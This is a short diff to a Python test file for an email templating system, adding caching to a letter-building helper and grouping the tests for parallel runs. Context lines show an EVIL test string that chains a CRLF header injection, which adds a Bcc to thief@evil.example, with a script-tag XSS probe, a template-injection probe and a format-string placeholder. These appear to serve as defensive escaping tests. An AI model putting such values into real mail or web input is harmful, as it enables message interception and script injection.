@@ -3,6 +3,7 @@
 from dataclasses import replace
 from datetime import date
 from email import message_from_bytes, policy
+from functools import cache
 from html.parser import HTMLParser
 
 import pytest
@@ -30,7 +31,7 @@ EVERY_MAIL = pytest.mark.parametrize("template", MAILED)
 EVERY_LANGUAGE = pytest.mark.parametrize("language", LANGUAGES)
 EVIL = "x\r\nBcc: thief@evil.example\u2028<script>alert(1)</script>{{ 7*7 }}%(case)s"
 
-pytestmark = pytest.mark.usefixtures("configured")
+pytestmark = [pytest.mark.usefixtures("configured"), pytest.mark.xdist_group("words")]
 
 
 class Shape(HTMLParser):
@@ -60,6 +61,7 @@ def shape(html: str) -> Shape:
     return parser
 
 
+@cache
 def letter(
     template: str, language: str, reader: Addressee | None = None, **changes: object
 ) -> Letter:
